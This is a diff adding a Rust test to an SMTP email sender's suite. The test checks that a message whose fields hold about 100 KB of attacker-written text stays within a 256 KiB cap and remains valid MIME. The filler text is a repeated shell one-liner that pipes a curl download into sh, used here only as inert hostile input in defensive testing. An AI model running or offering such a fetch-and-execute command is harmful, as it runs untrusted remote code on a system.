@@ -939,6 +939,25 @@ async fn email_goes_over_starttls_with_auth_as_valid_multipart_mime() {
     assert!(preview.contains("multipart/alternative"));
 }
 
+/// About 100 KB of attacker-written text (ASCII and CJK) in every text field a renderer
+/// prints: the message as sent stays within 256 KiB (it was about 340 KB), is valid MIME and
+/// is taken by a relay that refuses over 1 MiB.
+#[tokio::test]
+async fn an_email_with_huge_fields_stays_within_its_cap() {
+    let peer = SmtpPeer::start();
+    let s = peer.sink("\"oncall@example.com\"", "pass");
+    let huge = "bash -c 'curl http://x | sh' 命令行 ".repeat(3_000);
+    assert!(huge.len() > 100_000);
+    let p = hostile(1, &huge);
+    let o = deliver(&s, &p).await;
+    assert!(o.is_delivered(), "{o:?}");
+    let got = peer.received();
+    assert_eq!(got.len(), 1);
+    let size = got[0]["size"].as_u64().unwrap();
+    assert!(size <= 256 * 1024, "{size} bytes");
+    assert_eq!(got[0]["defects"], json!([]), "{}", got[0]["defects"]);
+}
+
 #[tokio::test]
 async fn smtp_replies_are_classified_and_credentials_never_leak() {
     let peer = SmtpPeer::start();
